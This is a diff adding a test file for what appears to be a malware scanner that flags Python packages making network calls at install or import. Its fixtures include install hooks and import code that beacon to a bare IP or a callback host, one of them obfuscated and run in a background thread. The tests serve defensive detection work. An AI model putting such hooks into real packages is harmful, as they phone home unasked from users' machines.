@@ -1,0 +1,73 @@
+import { expect, test } from 'vitest';
+import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
+
+test('a request to a bare address at install is malware', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'from urllib.request import urlopen',
+      'from setuptools import setup',
+      "urlopen('http://203.0.113.7/installed')",
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('unasked-network', file)).toMatchObject([
+    { class: 'malware', score: 9, context: 'install', path: 'example-1.0.0/setup.py', line: 3, hosts: ['203.0.113.7'] },
+  ]);
+});
+
+test('a look-up of a callback name at import is malware', async () => {
+  const file = wheel({ 'pkg/__init__.py': python('import socket', "socket.gethostbyname('pkg.oast.invalid')") });
+
+  expect(await inspect('unasked-network', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 2 },
+  ]);
+});
+
+test('a source archive of a code host at install and a vendor at import stay below quarantine', async () => {
+  const build = sdist({
+    'setup.py': python(
+      'from urllib.request import urlopen',
+      'from setuptools import setup',
+      "urlopen('https://github.com/example/native/archive/v1.tar.gz')",
+      "setup(name='example')",
+    ),
+  });
+  const update = wheel({
+    'pkg/__init__.py': python('import requests', "requests.get('https://updates.service.invalid/latest')"),
+  });
+
+  expect(await inspect('unasked-network', build)).toMatchObject([{ class: 'suspicious', score: 3 }]);
+  expect(await inspect('unasked-network', update)).toMatchObject([{ class: 'suspicious', score: 2 }]);
+});
+
+test('a request that only a call makes was asked for', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python('import requests', "def ask(): return requests.get('http://203.0.113.7/v').json()"),
+  });
+
+  expect(await inspect('unasked-network', file)).toEqual([]);
+});
+
+test('a cmdclass, a thread and a session by another name do not hide the request', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import threading',
+      'import requests as r',
+      'from setuptools import setup',
+      'from setuptools.command.install import install as Base',
+      "WHERE = '.'.join(['203', '0', '113', '7'])",
+      'def tell():',
+      "    r.Session().get('http://' + WHERE + '/installed')",
+      'class Step(Base):',
+      '    def run(self):',
+      '        threading.Thread(target=tell).start()',
+      '        Base.run(self)',
+      "setup(name='example', cmdclass={'install': Step})",
+    ),
+  });
+
+  expect(await inspect('unasked-network', file)).toMatchObject([
+    { class: 'malware', score: 9, context: 'install', path: 'example-1.0.0/setup.py', line: 7 },
+  ]);
+});
